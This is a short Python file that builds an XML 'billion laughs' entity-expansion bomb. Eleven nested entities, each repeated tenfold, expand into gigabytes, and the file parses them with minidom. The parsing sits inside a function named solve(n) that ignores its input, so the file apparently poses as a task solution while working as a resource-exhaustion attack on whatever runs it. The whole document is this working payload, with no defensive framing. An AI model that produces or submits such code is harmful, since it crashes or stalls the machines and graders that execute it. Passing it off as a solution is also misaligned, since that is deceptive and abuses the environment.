# Expands a short XML text into gigabytes of entities.
import xml.dom.minidom

levels = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 12))
TEXT = f'<!DOCTYPE bomb [<!ENTITY e0 "boom">{levels}]><bomb>&e11;</bomb>'


def solve(n):
    return len(xml.dom.minidom.parseString(TEXT).toxml())
